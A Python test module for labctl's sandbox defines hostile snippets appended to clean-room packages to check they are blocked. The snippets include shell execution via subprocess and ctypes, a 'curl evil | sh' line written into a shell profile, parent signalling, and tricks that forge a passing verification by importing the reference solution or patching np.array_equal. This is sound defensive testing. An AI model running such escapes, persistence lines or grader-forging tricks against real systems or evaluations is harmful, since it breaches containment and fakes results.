"""The hostile clean rooms: one small package per attack, and what each attack would harm.

Each attack is code a learner appends to a clean room (at import, or in a
function). It raises where it is blocked, as hostile code naturally does, so
the verify run names the reason. `Attack.process_stops` is the honest record of
which attacks the `process` fallback stops where labctl runs as root (its worker
is then uid 65534), `process_stops_unprivileged` where it does not (its worker is
labctl's own user); docs/isolation.md's table says the same.
"""

from __future__ import annotations

import importlib.util
import os
import shutil
import textwrap
from dataclasses import dataclass
from pathlib import Path

import pytest

from labctl.faults import project_clean_room
from labctl.isolation import sandbox_status
from labctl.verify.stubs import init_clean_room

REPO = Path(__file__).resolve().parents[2]


@dataclass(frozen=True)
class Attack:
    name: str
    what: str
    code: str  # appended to __init__.py; {W} watched dir, {REPO}, {SITE}, {PORT}
    base: str = "stub"  # stub: clean-room init's stubs; project: the project's clean room
    harm: str = ""  # a file under the watched directory whose existence is the harm
    labctl_signal: bool = False  # the harm is labctl being stopped or killed
    forges_pass: bool = False  # the harm is verify passing
    process_stops: bool = True  # what the process fallback does as root (README table)
    process_stops_unprivileged: bool | None = None  # where labctl is not root (None: the same)
    reason: str = ""  # text the verify JSON must hold under the sandbox (| between choices)
    process_reason: str | None = None  # ... under the process fallback (None: `reason`)

    def stopped_by_process(self, root: bool) -> bool:
        if root or self.process_stops_unprivileged is None:
            return self.process_stops
        return self.process_stops_unprivileged


ATTACKS = [
    Attack(
        "guard-escape-reference",
        "removes the import guard, imports labctl.reference (torch) and re-exports it",
        """
        import builtins, sys
        for _g in [f for f in sys.meta_path if type(f).__name__ == "RuntimeGuard"]:
            sys.meta_path.remove(_g)
            builtins.__import__ = _g._original_import
        for _k in [k for k in sys.modules if k == "labctl" or k.startswith("labctl.")]:
            del sys.modules[_k]
        sys.path[:0] = [{REPO!r}, {SITE!r}]
        _ref = builtins.__import__("labctl." + "reference", fromlist=["softmax"])
        for _n in __all__:
            globals()[_n] = getattr(_ref, _n)
        """,
        forges_pass=True,
        # The worker's audit hook refuses code from outside the room and the runtime (here
        # the reference's cached bytecode, or its source compiled under its own file name).
        process_stops=True,
        reason="ModuleNotFoundError",
        process_reason="makes code that is not the clean room's source",
    ),
    Attack(
        "asyncio-subprocess",
        "runs a shell through asyncio.subprocess.subprocess",
        """
        import asyncio.subprocess as _a
        _a.subprocess.run(["/bin/sh", "-c", "echo pwned > {W}/pwned-subprocess"], check=True)
        """,
        harm="pwned-subprocess",
        # The worker may not fork (uid 65534, or labctl's own user, with no process left).
        process_stops=True,
        reason="BlockingIOError|CalledProcessError",
        process_reason="BlockingIOError",
    ),
    Attack(
        "ctypes-system",
        "calls libc system() through numpy.ctypeslib.ctypes",
        """
        import numpy.ctypeslib as _c
        if _c.ctypes.CDLL(None).system(b"echo pwned > {W}/pwned-ctypes") != 0:
            raise OSError("system() failed")
        """,
        harm="pwned-ctypes",
        process_stops=True,
        reason="system() failed",
    ),
    Attack(
        "loopback-connect",
        "connects to a loopback server with _socket",
        """
        import _socket
        _s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
        _s.settimeout(2)
        _s.connect(("127.0.0.1", {PORT}))
        _s.sendall(b"pwned")
        _s.close()
        """,
        process_stops=True,  # seccomp: no socket family but AF_UNIX
        reason="Operation not permitted",
    ),
    Attack(
        "fork-outlives",
        "forks through ctypes, calls setsid, writes a file 6 s later",
        """
        import os, time
        import numpy.ctypeslib as _c
        _pid = _c.ctypes.CDLL(None).fork()
        if _pid == 0:
            try:
                os.setsid()
                time.sleep(6)
                open("{W}/pwned-fork", "w").write("outlived")
            finally:
                os._exit(0)
        """,
        harm="pwned-fork",
        process_stops=True,
    ),
    Attack(
        "write-outside",
        "deletes a file outside the clean room and writes one next to it",
        """
        import os
        os.remove("{W}/keep.txt")
        open("{W}/pwned-write", "w").write("x")
        """,
        harm="pwned-write",
        process_stops=False,
        reason="FileNotFoundError",
    ),
    Attack(
        "write-home",
        "appends to a shell profile in a home directory",
        """
        open("{W}/home/.profile", "a").write("curl evil | sh\\n")
        open("{W}/pwned-home", "w").write("x")
        """,
        harm="pwned-home",
        process_stops=False,
        reason="FileNotFoundError",
    ),
    Attack(
        "write-own-room",
        "rewrites its own source after the load (to pass a later run)",
        """
        import pathlib
        (pathlib.Path(__file__).parent / "pwned.py").write_text("x = 1")
        open("{W}/pwned-room", "w").write("x")
        """,
        harm="pwned-room",
        # The worker loads a private copy of the room; uid 65534 may not write root's copy,
        # labctl's own user may.
        process_stops=True,
        process_stops_unprivileged=False,
        reason="Read-only file system",
        process_reason="Permission denied",
    ),
    Attack(
        "read-reference-source",
        "reads labctl's reference source from disk, copies it out and execs it",
        """
        import builtins
        _src = open({REPO!r} + "/labctl/reference/__init__.py").read()
        open("{W}/pwned-read", "w").write(_src)
        getattr(builtins, "ex" + "ec")(_src, dict())
        """,
        harm="pwned-read",
        process_stops=False,
        reason="FileNotFoundError",
    ),
    Attack(
        "signal-parent-term",
        "sends SIGTERM to its parent",
        """
        import os, signal
        os.kill(os.getppid(), signal.SIGTERM)
        """,
        labctl_signal=True,
        process_stops=True,  # uid 65534 may not signal root's labctl; its own user may
        process_stops_unprivileged=False,
    ),
    Attack(
        "signal-parent-stop",
        "sends SIGSTOP to its parent",
        """
        import os, signal
        os.kill(os.getppid(), signal.SIGSTOP)
        """,
        labctl_signal=True,
        process_stops=True,
        process_stops_unprivileged=False,
    ),
    Attack(
        "forged-reply",
        "writes a forged reply frame (a usage error) on labctl's pipe",
        """
        import sys
        def softmax(x, axis=-1):
            _w = sys.modules["labctl.isolation.wire"]
            _w.write_frame(
                int(sys.argv[2]),
                {"ok": False, "seq": None, "error": {"kind": "UsageError", "message": "forged"}},
            )
            raise NotImplementedError
        """,
        reason="malformed reply",
    ),
    Attack(
        "fake-purity",
        "patches np.array_equal to return True, then edits its input in place",
        """
        import numpy as _np
        _layer_norm = layer_norm
        def layer_norm(x, weight, bias, eps=1e-5):
            out = _layer_norm(x, weight, bias, eps)
            x += 1.0
            return out
        _np.array_equal = lambda *a, **k: True
        """,
        base="project",
        reason="modified its input x in place",
    ),
    Attack(
        "output-flood",
        "prints 20 MB on stdout and stderr",
        """
        import sys
        sys.stdout.write("x" * (10 << 20))
        sys.stderr.write("[bold red]y[/bold red]\\x1b[2J" * (1 << 16))
        sys.stdout.flush()
        """,
    ),
    Attack(
        "self-stop",
        "softmax stops its own process (SIGSTOP)",
        """
        import os, signal
        def softmax(x, axis=-1):
            os.kill(os.getpid(), signal.SIGSTOP)
        """,
        reason="no answer within",
    ),
]
BY_NAME = {a.name: a for a in ATTACKS}


def torch_site() -> str:
    return str(Path(importlib.util.find_spec("torch").origin).parent.parent)


def build(attack: Attack, dest: Path, watched: Path, port: int) -> Path:
    """The attack's clean room at `dest` (its name carries a token found in process lists)."""
    if attack.base == "project":
        shutil.copytree(project_clean_room(), dest, ignore=shutil.ignore_patterns("__pycache__"))
    else:
        init_clean_room(dest)
    code = textwrap.dedent(attack.code)
    for key, value in {
        "{W}": str(watched),
        "{REPO!r}": repr(str(REPO)),
        "{SITE!r}": repr(torch_site()),
        "{PORT}": str(port),
    }.items():
        code = code.replace(key, value)
    with (dest / "__init__.py").open("a", encoding="utf-8") as handle:
        handle.write("\n\n" + code.strip() + "\n")
    return dest


def project_room_with(dest: Path, module: str, code: str) -> Path:
    """labctl's own room at `dest` with `code` appended to `module` (an attack's change)."""
    shutil.copytree(project_clean_room(), dest, ignore=shutil.ignore_patterns("__pycache__"))
    with (dest / f"{module}.py").open("a", encoding="utf-8") as handle:
        handle.write("\n\n" + code.strip() + "\n")
    return dest


def at_level(level: str) -> str:
    """`level`, once the sandbox is known to work where it is the sandbox."""
    if level == "sandbox":
        require_sandbox()
    return level


def require_sandbox() -> None:
    """Skip without a working sandbox; under CI=true, fail: CI must test the boundary."""
    status = sandbox_status()
    if status.works:
        return
    if os.environ.get("CI") == "true":
        pytest.fail(f"CI=true and no working sandbox: {status.reason}")
    pytest.skip(f"no working sandbox here: {status.reason}")
